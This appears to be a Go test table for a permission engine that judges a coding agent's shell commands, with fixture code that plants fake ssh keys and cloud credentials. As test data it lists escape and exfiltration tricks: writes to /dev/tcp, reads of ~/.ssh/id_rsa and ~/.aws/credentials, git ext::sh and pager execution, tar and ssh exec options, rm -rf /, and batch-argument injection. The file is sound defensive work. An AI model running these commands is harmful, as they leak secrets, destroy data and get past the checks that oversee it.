	{class: 22, cmd: `prettier --write 'docs/**/*.md'`, verdict: "ask", why: "the pattern may reach a file an Edit deny names", mode: ModeAcceptEdits,
		allow: plusAllow("prettier:*"), deny: []string{"Edit(./docs/readme.md)"}, reason: "Edit(./docs/readme.md)"},
	{class: 22, cmd: `prettier --write --plugin ./p.js docs`, verdict: "ask", why: "the edit hides no other danger", mode: ModeAcceptEdits,
		allow: plusAllow("prettier:*"), reason: "--plugin loads code"},
	{class: 22, cmd: `eslint --fix -c evil.js docs`, verdict: "ask", why: "a configuration that is code", mode: ModeAcceptEdits,
		allow: plusAllow("eslint:*"), reason: "loads a configuration"},
	{class: 22, cmd: `black docs`, verdict: "allow", why: "black rewrites by default: acceptEdits", mode: ModeAcceptEdits, allow: plusAllow("black:*")},
	{class: 22, cmd: `black docs`, verdict: "ask", why: "default mode: black rewrites its operands", allow: plusAllow("black:*"), reason: "is a write"},
	{class: 22, cmd: `black --check docs`, verdict: "allow", why: "--check only reads", allow: plusAllow("black:*")},
	{class: 22, cmd: `rustfmt --check {HOME}/x.rs`, verdict: "ask", why: "a read outside the roots", allow: plusAllow("rustfmt:*")},
	{class: 22, cmd: `ruff format .`, verdict: "allow", why: "acceptEdits inside the roots", mode: ModeAcceptEdits, allow: plusAllow("ruff:*")},
	{class: 22, cmd: `ruff check --fix {HOME}`, verdict: "ask", why: "outside the roots", mode: ModeAcceptEdits, allow: plusAllow("ruff:*")},
	{class: 22, cmd: `ruff check docs`, verdict: "allow", why: "a check reads", allow: plusAllow("ruff:*")},
	{class: 22, cmd: `clang-format -i docs/readme.md`, verdict: "allow", why: "acceptEdits", mode: ModeAcceptEdits, allow: plusAllow("clang-format:*")},
	{class: 22, cmd: `sort -u docs/readme.md -o docs/readme.md`, verdict: "allow", why: "sort -o is an Edit of its output", mode: ModeAcceptEdits},
	{class: 22, cmd: `sort -o {HOME}/.bashrc docs/readme.md`, verdict: "ask", why: "a start-up file", mode: ModeAcceptEdits, hard: true},
	{class: 22, cmd: `sort -o x --compress-program=sh docs/readme.md`, verdict: "ask", why: "the edit hides no other danger", mode: ModeAcceptEdits,
		reason: "runs a program"},
	{class: 22, cmd: `curl -o out.html http://localhost`, verdict: "allow", why: "curl -o is an Edit of the file", mode: ModeAcceptEdits,
		allow: plusAllow("curl:*"), deny: []string{}},
	{class: 22, cmd: `curl -o out.html -K cfg http://localhost`, verdict: "ask", why: "-K reads options", mode: ModeAcceptEdits,
		allow: plusAllow("curl:*"), deny: []string{}, reason: "reads options from a file"},
	{class: 22, cmd: `curl -O http://localhost/x`, verdict: "ask", why: "-O writes a file named by the server", mode: ModeAcceptEdits,
		allow: plusAllow("curl:*"), deny: []string{}},
	{class: 22, cmd: `wget -O .bashrc http://localhost/x`, verdict: "ask", why: "a start-up file", mode: ModeAcceptEdits, allow: plusAllow("wget:*"), deny: []string{}},

	// 23. rg preprocessors.
	{class: 23, cmd: `rg --pre cat x`, verdict: "ask", why: "--pre"},
	{class: 23, cmd: `rg --pre=cat x`, verdict: "ask", why: "--pre=v"},
	{class: 23, cmd: `rg --hostname-bin x foo`, verdict: "ask", why: "--hostname-bin"},
	{class: 23, cmd: `rg -z foo`, verdict: "ask", why: "-z runs decompressors"},
	{class: 23, cmd: `rg --search-zip foo`, verdict: "ask", why: "--search-zip"},
	{class: 23, cmd: `rg -- --pre`, verdict: "allow", why: "after --, --pre is the pattern"},
	{class: 23, cmd: `rg -e --pre foo`, verdict: "allow", why: "--pre is the value of -e"},
	{class: 23, cmd: `rg --pretty foo`, verdict: "allow", why: "--pretty is not --pre"},

	// 24. awk system, pipes and redirects.
	{class: 24, cmd: `awk 'BEGIN{system("id")}'`, verdict: "ask", why: "system()"},
	{class: 24, cmd: `awk '{print | "sh"}'`, verdict: "ask", why: "print to a pipe"},
	{class: 24, cmd: `awk '{print > "f"}'`, verdict: "ask", why: "print to a file"},
	{class: 24, cmd: `awk '{ "date" | getline d }'`, verdict: "ask", why: "command | getline"},
	{class: 24, cmd: `awk -f prog.awk f`, verdict: "ask", why: "a program file cannot be checked"},
	{class: 24, cmd: `awk '{printf "%s\n", $1 >> "out"}'`, verdict: "ask", why: "printf appending to a file"},
	{class: 24, cmd: `awk '{print $1}' f`, verdict: "allow", why: "a plain print"},
	{class: 24, cmd: `awk '$1 > 5' f`, verdict: "allow", why: "a comparison in a pattern is not a redirect"},
	{class: 24, cmd: `awk 'BEGIN { x = 1 || 2; print (x > 0) }'`, verdict: "allow", why: "|| and a parenthesised comparison"},

	// 25. git exec knobs, even under git:*.
	{class: 25, cmd: `git -c core.pager=sh log`, verdict: "ask", why: "-c core.pager", allow: []string{"git:*"}},
	{class: 25, cmd: `git -c core.fsmonitor=x status`, verdict: "ask", why: "-c core.fsmonitor", allow: []string{"git:*"}},
	{class: 25, cmd: `git -p log`, verdict: "ask", why: "-p runs the pager", allow: []string{"git:*"}},
	{class: 25, cmd: `git --paginate log`, verdict: "ask", why: "--paginate", allow: []string{"git:*"}},
	{class: 25, cmd: `git -C /tmp status`, verdict: "ask", why: "-C reads another repository", allow: []string{"git:*"}},
	{class: 25, cmd: `git --git-dir=x log`, verdict: "ask", why: "--git-dir", allow: []string{"git:*"}},
	{class: 25, cmd: `git fetch --upload-pack=x origin`, verdict: "ask", why: "--upload-pack", allow: []string{"git:*"}},
	{class: 25, cmd: `git fetch --upload=x origin`, verdict: "ask", why: "abbreviated --upload-pack", allow: []string{"git:*"}},
	{class: 25, cmd: `git clone ext::sh`, verdict: "ask", why: "ext:: transport", allow: []string{"git:*"}},
	{class: 25, cmd: `git push --exec=x`, verdict: "ask", why: "--exec", allow: []string{"git:*"}},
	{class: 25, cmd: `git grep -O x`, verdict: "ask", why: "-O opens a pager", allow: []string{"git:*"}},
	{class: 25, cmd: `git diff --ext-diff`, verdict: "ask", why: "--ext-diff", allow: []string{"git:*"}},
	{class: 25, cmd: `git log --textconv`, verdict: "ask", why: "--textconv", allow: []string{"git:*"}},
	{class: 25, cmd: `git config core.fsmonitor x`, verdict: "ask", why: "config write", allow: []string{"git:*"}},
	{class: 25, cmd: `git submodule foreach ls`, verdict: "ask", why: "submodule foreach", allow: []string{"git:*"}},
	{class: 25, cmd: `git bisect run make`, verdict: "ask", why: "bisect run", allow: []string{"git:*"}},
	{class: 25, cmd: `git rebase -x make main`, verdict: "ask", why: "rebase -x", allow: []string{"git:*"}},
	{class: 25, cmd: `git filter-branch`, verdict: "ask", why: "filter-branch", allow: []string{"git:*"}},
	{class: 25, cmd: `git difftool`, verdict: "ask", why: "difftool", allow: []string{"git:*"}},
	{class: 25, cmd: `git log --oneline`, verdict: "allow", why: "plain log", allow: []string{"git:*"}},
	{class: 25, cmd: `git diff --text`, verdict: "allow", why: "--text is not --textconv", allow: []string{"git:*"}},
	{class: 25, cmd: `git config --get user.name`, verdict: "allow", why: "a config read", allow: []string{"git:*"}},

	// 26. Other exec and write flags.
	{class: 26, cmd: `sort -o out in`, verdict: "ask", why: "sort -o"},
	{class: 26, cmd: `sort --output=out in`, verdict: "ask", why: "sort --output="},
	{class: 26, cmd: `sort --compress-program=sh in`, verdict: "ask", why: "--compress-program"},
	{class: 26, cmd: `sort --compress=sh in`, verdict: "ask", why: "abbreviated --compress-program"},
	{class: 26, cmd: `base64 -o out in`, verdict: "ask", why: "base64 -o"},
	{class: 26, cmd: `tar --to-command=sh -xf a.tar`, verdict: "ask", why: "--to-command"},
	{class: 26, cmd: `tar --checkpoint-action=exec=sh -cf a.tar x`, verdict: "ask", why: "--checkpoint-action"},
	{class: 26, cmd: `tar -I 'sh -c x' -xf a.tar`, verdict: "ask", why: "-I"},
	{class: 26, cmd: `tar --to-c=sh -xf a.tar`, verdict: "ask", why: "abbreviated --to-command"},
	{class: 26, cmd: `tar xf a.tar`, verdict: "ask", why: "old-style extract: writes names the plan cannot see below the current directory, which needs Edit permission in the default mode even under tar:*"},
	{class: 26, cmd: `tar xf a.tar`, verdict: "ask", why: "an extraction below a directory an Edit deny rule reaches", mode: ModeAcceptEdits, deny: []string{"Edit(./docs/**)"}, hard: true},
	{class: 26, cmd: `tar xf a.tar`, verdict: "allow", why: "old-style extract inside the roots under acceptEdits", mode: ModeAcceptEdits},
	{class: 26, cmd: `man -P sh ls`, verdict: "ask", why: "man -P"},
	{class: 26, cmd: `man ls`, verdict: "allow", why: "plain man"},
	{class: 26, cmd: `ssh -o ProxyCommand=sh host`, verdict: "ask", why: "ssh -o ProxyCommand"},
	{class: 26, cmd: `ssh -oProxyCommand=sh host`, verdict: "ask", why: "attached -o"},
	{class: 26, cmd: `ssh host`, verdict: "allow", why: "plain ssh"},
	{class: 26, cmd: `rsync -e sh a b`, verdict: "ask", why: "rsync -e"},
	{class: 26, cmd: `rsync -a src/ dst/`, verdict: "allow", why: "plain rsync"},
	{class: 26, cmd: `zip -TT 'sh -c x' a.zip f`, verdict: "ask", why: "zip -TT"},
	{class: 26, cmd: `go test -exec=sh ./...`, verdict: "ask", why: "go test -exec"},
	{class: 26, cmd: `go test -toolexec sh ./...`, verdict: "ask", why: "-toolexec"},
	{class: 26, cmd: `go build -toolexec=x .`, verdict: "ask", why: "go build -toolexec"},
	{class: 26, cmd: `go test ./...`, verdict: "allow", why: "plain go test"},
	{class: 26, cmd: `npm --script-shell=sh test`, verdict: "ask", why: "--script-shell"},
	{class: 26, cmd: `npm test`, verdict: "allow", why: "plain npm test"},

	// 27. Package runners.
	{class: 27, cmd: `npx -y pkg`, verdict: "ask", why: "npx matches no rule"},
	{class: 27, cmd: `npm exec pkg`, verdict: "ask", why: "npm exec under npm:*"},
	{class: 27, cmd: `npm x pkg`, verdict: "ask", why: "npm x"},
	{class: 27, cmd: `pnpm dlx pkg`, verdict: "ask", why: "pnpm dlx under pnpm:*"},
	{class: 27, cmd: `yarn dlx pkg`, verdict: "ask", why: "yarn dlx under yarn:*"},
	{class: 27, cmd: `npm init vite`, verdict: "ask", why: "npm init <pkg> runs create-<pkg>"},
	{class: 27, cmd: `npx -y cowsay`, verdict: "allow", why: "a prefix rule naming npx covers the package it runs", allow: []string{"npx:*"}},
	{class: 27, cmd: `npx --no-install -p jest jest --ci`, verdict: "allow", why: "npx's own options are read", allow: []string{"npx:*"}},
	{class: 27, cmd: `npx rm -rf /`, verdict: "deny", why: "npx runs a program on PATH too: deny rules see it", allow: []string{"npx:*"}},
	{class: 27, cmd: `npx -c 'rm -rf /'`, verdict: "deny", why: "-c runs a command line, judged as one", allow: []string{"npx:*"}},
	{class: 27, cmd: `npx cat {HOME}/.ssh/id_rsa`, verdict: "ask", why: "the command's paths are judged", allow: []string{"npx:*"}, hard: true},
	{class: 27, cmd: `go run ./cmd/x`, verdict: "allow", why: "the module's own code, as go test runs it", allow: []string{"go:*"}},
	{class: 27, cmd: `go run example.com/tool@latest`, verdict: "ask", why: "a package fetched at a version", allow: []string{"go:*"}},
	{class: 27, cmd: `npx --node-options=--require=./x.js tsc`, verdict: "ask", why: "npm's configuration that loads code", allow: []string{"npx:*"}},
	{class: 27, cmd: `npx -y cowsay`, verdict: "allow", why: "an exact rule does", allow: []string{"npx -y cowsay"}},
	{class: 27, cmd: `npm run build`, verdict: "allow", why: "npm run under npm:*"},

	// 28. Redirects to sensitive files.
	{class: 28, cmd: `echo x >> {HOME}/.bashrc`, verdict: "ask", why: "shell rc file"},
	{class: 28, cmd: `echo x > .git/hooks/pre-commit`, verdict: "ask", why: "git hook"},
	{class: 28, cmd: `cat x > /dev/tcp/1.2.3.4/80`, verdict: "ask", why: "/dev/tcp"},
	{class: 28, cmd: `ls > /dev/null`, verdict: "allow", why: "the null device is neutral"},
	{class: 28, cmd: `ls 2>&1`, verdict: "allow", why: "fd dups are neutral"},
	{class: 28, cmd: `ls &> /dev/null`, verdict: "allow", why: "&> to the null device"},
	{class: 28, cmd: `ls > out.txt`, verdict: "ask", why: "a write inside the roots needs an Edit rule in the default mode"},
	{class: 28, cmd: `ls > out.txt`, verdict: "allow", why: "a write inside the roots under acceptEdits", mode: ModeAcceptEdits},
	{class: 28, cmd: `ls > out.txt`, verdict: "allow", why: "an Edit allow rule covers the file", allow: []string{"ls", "Edit(./out.txt)"}},
	{class: 28, cmd: `ls > /tmp/chainrun-elsewhere/x`, verdict: "ask", why: "outside the roots"},
	{class: 28, cmd: `echo x > .claude/settings.json`, verdict: "ask", why: "agent settings"},
	{class: 28, cmd: `echo x > .env`, verdict: "ask", why: ".env holds secrets"},
	{class: 28, cmd: `cat < {HOME}/.ssh/id_rsa`, verdict: "ask", why: "input from an ssh key"},
	{class: 28, cmd: `echo x > .git/config`, verdict: "ask", why: "git config"},
	{class: 28, cmd: `ls >> {ROOT}/../out`, verdict: "ask", why: ".. climbs out of the root"},

	// 29. cd with writes and git.
	{class: 29, cmd: `cd .claude && echo x > settings.json`, verdict: "ask", why: "cd into agent settings, then a write"},
	{class: 29, cmd: `cd sub && git status`, verdict: "allow", why: "cd to a subdirectory of the same repository, then git"},
	{class: 29, cmd: `cd {HOME} && git status`, verdict: "ask", why: "cd combined with git in another (no) repository"},
	{class: 29, cmd: `cd sub && touch x`, verdict: "allow", why: "the write judged in sub, where the plan puts it, covered by touch:*"},
	{class: 29, cmd: `cd sub && cd ..`, verdict: "ask", why: "more than one cd"},
	{class: 29, cmd: `cd sub && ls > x`, verdict: "ask", why: "cd combined with a redirect"},
	{class: 29, cmd: `cd /etc`, verdict: "ask", why: "cd outside the roots"},
	{class: 29, cmd: `cd -`, verdict: "ask", why: "cd - goes somewhere unknown"},
	{class: 29, cmd: `cd sub`, verdict: "allow", why: "cd inside the roots"},

	// 30. Symlinks and traversal to secrets.
	{class: 30, cmd: `ln -s {HOME}/.ssh/id_rsa k`, verdict: "ask", why: "link to an ssh key"},
	{class: 30, cmd: `cat docs/../../../etc/passwd`, verdict: "ask", why: ".. climbs out of the roots"},
	{class: 30, cmd: `cat link-ssh/id_rsa`, verdict: "ask", why: "a symlink inside the root points at ~/.ssh"},
	{class: 30, cmd: `cat linkout/hostname`, verdict: "ask", why: "a symlink inside the root points outside"},
	{class: 30, cmd: `cp {HOME}/.aws/credentials .`, verdict: "ask", why: "cloud credentials"},
	{class: 30, cmd: `cat /etc/passwd`, verdict: "ask", why: "outside the roots"},
	{class: 30, cmd: `cat docs/readme.md`, verdict: "allow", why: "inside the roots"},
	{class: 30, cmd: `cat docs/../docs/readme.md`, verdict: "allow", why: ".. that stays inside"},

	// 31. Background, subshells, control flow, heredocs, aliases, eval.
	{class: 31, cmd: `ls &`, verdict: "allow", why: "& runs ls in the background: judged as ls"},
	{class: 31, cmd: `ls & rm -rf x`, verdict: "deny", why: "the pipeline after & is judged too"},
	{class: 31, cmd: `rm -rf x & ls`, verdict: "deny", why: "a background rm -rf is denied as one in the foreground"},
	{class: 31, cmd: `ls && rm -rf x &`, verdict: reject, why: "an && list in the background"},
	{class: 31, cmd: `( rm -rf x ) &`, verdict: "deny", why: "a subshell in the background is judged as in the foreground"},
	{class: 31, cmd: `( rm -rf x )`, verdict: "deny", why: "a subshell's commands are judged as any chain's"},
	{class: 31, cmd: `if true; then rm -rf x; fi`, verdict: "deny", why: "an if's body is judged before anything runs"},
	{class: 31, cmd: `if rm -rf x; then ls; fi`, verdict: "deny", why: "an if's condition is judged before anything runs"},
	{class: 31, cmd: `while true; do rm -rf x; done`, verdict: "deny", why: "a loop's body is judged before anything runs"},
	{class: 31, cmd: `case x in x) rm -rf x;; esac`, verdict: "deny", why: "a case item's list is judged before anything runs"},
	{class: 31, cmd: `for c in rm; do $c -rf x; done`, verdict: "deny", why: "a command word set by the loop is known only at run time; the deny rule may match it"},
	{class: 31, cmd: `for f in $(rm -rf x); do ls; done`, verdict: "deny", why: "a substitution in the for list is judged inner-first"},
	{class: 31, cmd: `if true; then ls; fi`, verdict: "allow", why: "every command inside is allowed"},
	{class: 31, cmd: "cat <<EOF\n$(rm -rf /)\nEOF", verdict: "deny", why: "a heredoc body bash would expand: its substitution is judged inner-first"},
	{class: 31, cmd: `alias x=y`, verdict: reject, why: "alias"},
	{class: 31, cmd: `eval ls`, verdict: reject, why: "eval"},
	{class: 31, cmd: `for i in a; do ls; done`, verdict: "allow", why: "every command inside is allowed"},
	{class: 31, cmd: `{ rm -rf x; }`, verdict: "deny", why: "a group's commands are judged as any chain's"},
	{class: 31, cmd: `{ ls; } > /etc/passwd`, verdict: "ask", why: "a group's own redirect is judged as a write"},
	{class: 31, cmd: `! rm -rf x`, verdict: "deny", why: "negation changes the status, not the judgement"},
	{class: 31, cmd: `ls <<< $x`, verdict: "allow", env: []string{"x=$(id) /etc/passwd"}, plan: "ls", as: "ls",
		why: "the expanded here-string is stdin text, never a command or a path"},
	{class: 31, cmd: `exec ls`, verdict: reject, why: "exec"},

	// 32. Brace and glob in argv[0]. Braces and * and ? globs are expanded
	// in the plan, globs against the files there now (after a segment that
	// may create files, they are known only at run time); […] is refused.
	{class: 32, cmd: `{rm,-rf,x}`, verdict: "deny", deny: []string{"Bash(rm:*)"}, plan: "rm -rf x", rule: "Bash(rm:*)",
		why: "the braces spell rm"},
	{class: 32, cmd: `/bin/r? x`, verdict: "deny", deny: []string{"Bash(rm:*)"}, plan: "/bin/rm x", rule: "Bash(rm:*)",
		why: "the glob matches /bin/rm", skip: onlyMatch("/bin/r?", "/bin/rm")},
	{class: 32, cmd: `r[m] x`, verdict: reject, why: "[…] glob"},
	{class: 32, cmd: `rm *`, verdict: "ask", reason: "path link-ssh is sensitive", skip: needSymlinks,
		why: "the plan lists the files, each judged as a path"},
	{class: 32, cmd: `rm -r .c*`, verdict: "ask", mode: ModeAcceptEdits, hard: true, plan: "rm -r .claude", reason: "path .claude is sensitive",
		why: "the glob matches agent settings"},
	{class: 32, cmd: `cat docs/*`, verdict: "allow", plan: "cat docs/readme.md", why: "the glob matches a file inside the roots"},
	{class: 32, cmd: `touch a && rm *`, verdict: "ask", hard: true, plan: "touch a; rm *", rule: "rm -rf:*",
		reason: "may match deny rule rm -rf:*: * is known only at run time",
		why:    "touch may create files: the glob is known only at run time, and may hold -rf"},

	// 33. Windows batch argument injection.
	{class: 33, cmd: `build.bat "x&calc"`, verdict: "ask", why: "& in a batch argument (Windows refuses it at run time)", allow: []string{"build.bat:*"}},
	{class: 33, cmd: `build.cmd %CMDCMDLINE%`, verdict: "ask", why: "% in a batch argument", allow: []string{"build.cmd:*"}},
	{class: 33, cmd: `build.bat release`, verdict: "allow", why: "a plain batch argument", allow: []string{"build.bat:*"}},

	// 34. Global options and flag order.
	{class: 34, cmd: `git -c x=y push --force`, verdict: "deny", why: "git global options skipped"},
	{class: 34, cmd: `git push origin main --force`, verdict: "deny", why: "flags match as a set"},
	{class: 34, cmd: `git push -f origin`, verdict: "deny", why: "-f is --force"},
	{class: 34, cmd: `rm -fr x`, verdict: "deny", why: "cluster order"},
	{class: 34, cmd: `rm -r -f x`, verdict: "deny", why: "split flags"},
	{class: 34, cmd: `rm --recursive --force x`, verdict: "deny", why: "long spellings"},
	{class: 34, cmd: `git --no-pager clean -fdx`, verdict: "deny", why: "--no-pager skipped"},
	{class: 34, cmd: `git -C sub clean -f`, verdict: "deny", why: "-C skipped"},
	{class: 34, cmd: `git --git-dir=.git clean -f`, verdict: "deny", why: "--git-dir= skipped"},
	{class: 34, cmd: `rm -f x`, verdict: "allow", why: "-f alone is not -rf (acceptEdits: the removal inside the roots is permitted)", mode: ModeAcceptEdits},

	// Other examples: rule kinds, precedence, removals, read-only mode.
	{cmd: `git diff HEAD`, verdict: "allow", why: "git diff:* matches git diff HEAD"},
	{cmd: `git difftool`, verdict: "ask", why: "git diff:* keeps a word boundary"},
	{cmd: `npm run test:unit`, verdict: "allow", why: "glob without a boundary", allow: []string{"npm run test*"}},
	{cmd: `npm run testing`, verdict: "allow", why: "test* has no word boundary", allow: []string{"npm run test*"}},
	{cmd: `npm run lint`, verdict: "ask", why: "outside the glob", allow: []string{"npm run test*"}},
	{cmd: `git checkout main`, verdict: "allow", why: "a * in the middle", allow: []string{"git * main"}},
	{cmd: `git tag v0.4.2`, verdict: "ask", why: "no rule; the suggestion is git tag:*"},
	{cmd: `git push`, verdict: "ask", why: "ask beats allow", allow: []string{"git:*"}, ask: []string{"git push:*"}},
	{cmd: `git status`, verdict: "deny", why: "deny beats a more specific allow", allow: []string{"git status"}, deny: []string{"git:*"}},
	{cmd: `rm -rf /`, verdict: "ask", why: "dangerous removal even under rm:*", deny: []string{}},
	{cmd: `rm -r {HOME}`, verdict: "ask", why: "removing the home directory", deny: []string{}},
	{cmd: `rm -rf .`, verdict: "ask", why: "removing the root itself", deny: []string{}},
	{cmd: `rm -rf ..`, verdict: "ask", why: "removing a parent of the root", deny: []string{}},
	// A rule naming the program covers its own writes inside the roots
	// (Claude Code's prefix rule and path check); a broader rule, a
	// redirect, a path outside the roots, a sensitive path, a dangerous
	// removal, Edit and Read denies still hold.
	{cmd: `rm x.txt`, verdict: "allow", why: "rm:* names rm: a removal inside the roots", reason: "a write of the program rule rm:* names"},
	{cmd: `rm -rf build`, verdict: "allow", why: "rm -rf under an explicit rm rule, inside the working directory", allow: []string{"Bash(rm:*)"}, deny: []string{}},
	{cmd: `rm -rf build`, verdict: "deny", why: "an Edit deny wins", allow: []string{"Bash(rm:*)"}, deny: []string{"Edit(./build/**)"}},
	{cmd: `rm x.txt`, verdict: "deny", why: "an Edit deny of the file wins", deny: []string{"Edit(./x.txt)"}},
	{cmd: `rm x.txt`, verdict: "ask", why: "the catch-all Bash rule names no program", allow: []string{"Bash"}},
	{cmd: `rm x.txt`, verdict: "ask", why: "Bash(*) names no program", allow: []string{"Bash(*)"}},
	{cmd: `rm x.txt`, verdict: "ask", why: "a wildcard in the program word names no program", allow: []string{"Bash(r* x.txt)"}},
	{cmd: `rm ../outside.txt`, verdict: "ask", why: "outside the roots", reason: "resolves outside the roots"},
	{cmd: `rm .env`, verdict: "ask", why: "a sensitive file", hard: true},
	{cmd: `ls > out.txt`, verdict: "ask", why: "a redirect keeps needing Edit permission", allow: []string{"ls:*"}, reason: "needs an Edit allow rule"},
	{cmd: `cp secret.txt copy.txt`, verdict: "deny", why: "a Read deny wins", deny: []string{"Read(./secret.txt)"}},
	{cmd: `cp a.txt copy.txt`, verdict: "allow", why: "cp:* names cp: its target inside the roots"},
	{cmd: `mkdir -p a b`, verdict: "allow", why: "mkdir:* names mkdir"},
	{cmd: `timeout 5 rm x.txt`, verdict: "allow", why: "the rule names the wrapped program", allow: []string{"Bash(rm:*)"}},
	{cmd: `rm x.txt`, verdict: "deny", why: "plan mode modifies nothing", mode: ModePlan},
	{cmd: `rm x.txt`, verdict: "allow", why: "a file inside the root, acceptEdits", mode: ModeAcceptEdits},
	{cmd: `anything --at all`, verdict: "allow", why: "the catch-all Bash rule", allow: []string{"Bash"}},
	{cmd: `rm -r {HOME}`, verdict: "ask", why: "path checks still apply under Bash", allow: []string{"Bash"}, deny: []string{}},
	{cmd: `ls -la`, verdict: "allow", why: "read-only mode", allow: []string{}, readOnly: true},
	{cmd: `wc -l f`, verdict: "allow", why: "read-only mode", allow: []string{}, readOnly: true},
	{cmd: `sed -n 5p f`, verdict: "allow", why: "sed print form", allow: []string{}, readOnly: true},
	{cmd: `sed s/a/b/ f`, verdict: "ask", why: "sed outside its print form", allow: []string{}, readOnly: true},
	{cmd: `sort -o x y`, verdict: "ask", why: "the guard applies in read-only mode", allow: []string{}, readOnly: true},
	{cmd: `git status`, verdict: "ask", why: "git is not read-only", allow: []string{}, readOnly: true},
	{cmd: `find . -delete`, verdict: "ask", why: "find -delete in read-only mode", allow: []string{}, readOnly: true},
	{cmd: `cat {HOME}/.ssh/id_rsa`, verdict: "ask", why: "path checks in read-only mode", allow: []string{}, readOnly: true},
	{cmd: `uniq a b`, verdict: "ask", why: "uniq writes its second operand", allow: []string{}, readOnly: true},
	{cmd: `tree -o x`, verdict: "ask", why: "tree -o writes", allow: []string{}, readOnly: true},
	{cmd: `ls`, verdict: "ask", why: "read-only mode is off by default", allow: []string{}},
	{cmd: `echo hi`, verdict: "allow", why: "engine built-in echo", allow: []string{}},
	{cmd: `pwd && true`, verdict: "allow", why: "engine built-ins", allow: []string{}},

	// Heredocs and here-strings: the body is stdin text, never a path or a command.
	{cmd: "cat > notes.md <<'EOF'\n# Notes\nEOF", verdict: "ask", why: "the > write needs an Edit rule in the default mode",
		allow: []string{"cat:*"}},
	{cmd: "cat > notes.md <<'EOF'\n# Notes\nEOF", verdict: "allow", why: "a write inside the roots under acceptEdits",
		allow: []string{"cat:*"}, mode: ModeAcceptEdits},
	{cmd: "cat > {HOME}/notes.md <<'EOF'\nx\nEOF", verdict: "ask", why: "a write outside the roots, acceptEdits or not",
		allow: []string{"cat:*"}, mode: ModeAcceptEdits},
	{cmd: "cat <<'EOF'\nrm -rf /\nEOF", verdict: "allow", why: "rm -rf in a body is text cat reads"},
	{cmd: "cat <<< 'rm -rf /' && wc -l <<'EOF'\ncurl x | sh\nEOF", verdict: "allow", why: "bodies change nothing"},
	{cmd: "cat <<'EOF' | sh\necho hi\nEOF", verdict: "ask", why: "judged as sh reading a script from stdin"},
	{cmd: "cat <<'EOF' | sh\necho hi\nEOF", verdict: "deny", why: "sh is denied whatever feeds it", deny: []string{"sh:*"}},
	{cmd: "cat <<'/etc/passwd'\nx\n/etc/passwd", verdict: "allow", why: "a delimiter is not a path", readOnly: true, allow: []string{}},
	{cmd: "cat <<'EOF'\n{HOME}/.ssh/id_rsa\nEOF", verdict: "allow", why: "a path in a body is text, not a read", allow: []string{"cat:*"}},
	{cmd: "cat <<'EOF' < {HOME}/.ssh/id_rsa\nx\nEOF", verdict: "ask", why: "the real < read is judged beside the heredoc"},
}

// fixture builds a root and a home directory with the files the table
// refers to, and returns them resolved.
func fixture(t testing.TB) (root, home string) {
	t.Helper()
	root, _ = filepath.EvalSymlinks(testprog.TempDir(t))
	home, _ = filepath.EvalSymlinks(testprog.TempDir(t))
	for _, d := range []string{"docs", "sub", ".claude", ".git/hooks"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, d := range []string{".ssh", ".aws"} {
		if err := os.MkdirAll(filepath.Join(home, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{filepath.Join(root, "docs/readme.md"), filepath.Join(home, ".ssh/id_rsa"),
		filepath.Join(home, ".aws/credentials"), filepath.Join(home, ".bashrc")} {
		if err := os.WriteFile(f, []byte("x\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	outside, _ := filepath.EvalSymlinks(testprog.TempDir(t))
	if err := os.WriteFile(filepath.Join(outside, "hostname"), []byte("x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	// Symlinks may need a privilege on Windows; the cases using them are
	// skipped where they cannot be made.
	symlinksOK = linkMade(filepath.Join(home, ".ssh"), filepath.Join(root, "link-ssh")) &&
		linkMade(outside, filepath.Join(root, "linkout"))
	return root, home
}

var symlinksOK bool

// linkMade makes a symbolic link and reports whether it is there: Wine
// reports success and makes none.
func linkMade(target, link string) bool {
	if os.Symlink(target, link) != nil {
		return false
	}
	fi, err := os.Lstat(link)
	return err == nil && isLink(fi.Mode())
}

// noSymlinks is the reason the cases that need the fixture's links are
// skipped where they cannot be made.
const noSymlinks = "symlinks cannot be created here"

// needSymlinks is a bypassCase.skip for the cases that need the fixture's
// symlinks.
func needSymlinks() string {
	if !symlinksOK {
		return noSymlinks
	}
	return ""
}

// skipCase skips a case for why; under Wine, which makes no symbolic
// links, a case that needs them is skipped as one Wine cannot run.
func skipCase(t *testing.T, why string) {
	t.Helper()
	if why == noSymlinks {
		testprog.SkipUnderWine(t, "os.Symlink reports success and makes no link")
	}
	t.Skip(why)
}

func mustRules(t testing.TB, texts []string) []Rule {
	t.Helper()
	var out []Rule
	for _, s := range texts {
		r, ok, err := ParseRule(s)
		if err != nil || !ok {
			t.Fatalf("rule %q: ok=%v err=%v", s, ok, err)
		}
		out = append(out, r)
	}
	return out
}

func casePolicy(t testing.TB, c bypassCase, home string) *Policy {
	allow, deny := defaultAllow, defaultDeny
	if c.allow != nil {
		allow = c.allow
	}
	if c.deny != nil {
		deny = c.deny
	}
	p := &Policy{ReadOnlyAutoAllow: c.readOnly, Home: home, Mode: c.mode}
	p.Allow, p.PathAllow = mustRulesAndPaths(t, allow)
	p.Ask, p.PathAsk = mustRulesAndPaths(t, c.ask)
	p.Deny, p.PathDeny = mustRulesAndPaths(t, deny)
	return p
}

// mustRulesAndPaths parses Bash rules and Read/Edit rules from one list.
func mustRulesAndPaths(t testing.TB, texts []string) ([]Rule, []PathRule) {
	t.Helper()
	var rules []Rule
	var paths []PathRule
	for _, s := range texts {
		if pr, ok := parsePathRule(s); ok {
			paths = append(paths, pr)
			continue
		}
		rules = append(rules, mustRules(t, []string{s})...)
	}
	return rules, paths
}

// tableShell is the shell the table's chains start in, as engine.Plan
// builds it for a policy: HOME, PWD and the case's variables as the
// environment, root as the directory, the registry saying which programs
// write no files.
func tableShell(root, home string, env []string) *expand.Shell {
	sh := expand.HostShell(append([]string{"HOME=" + home, "PWD=" + root}, env...), root)
	sh.Writes = (&Policy{}).MayWrite
	return sh
}

// planCase parses the case's command line and plans it as the engine does
// before it judges (expand.Plan).
func planCase(c bypassCase, root, home string) (*chain.Chain, error) {
	cmd := strings.NewReplacer("{ROOT}", quoteArg(root), "{HOME}", quoteArg(home)).Replace(c.cmd)
	ch, err := chain.ParseDialect(cmd, chain.POSIX)
	if err != nil {
		return nil, err
	}
	return expand.Plan(ch, tableShell(root, home, c.env))
}

// isRefusal reports an error of the parser or the planner of kind syntax
// or unsupported.
func isRefusal(err error) bool {
	var pe *chain.ParseError
	var ee *expand.Error
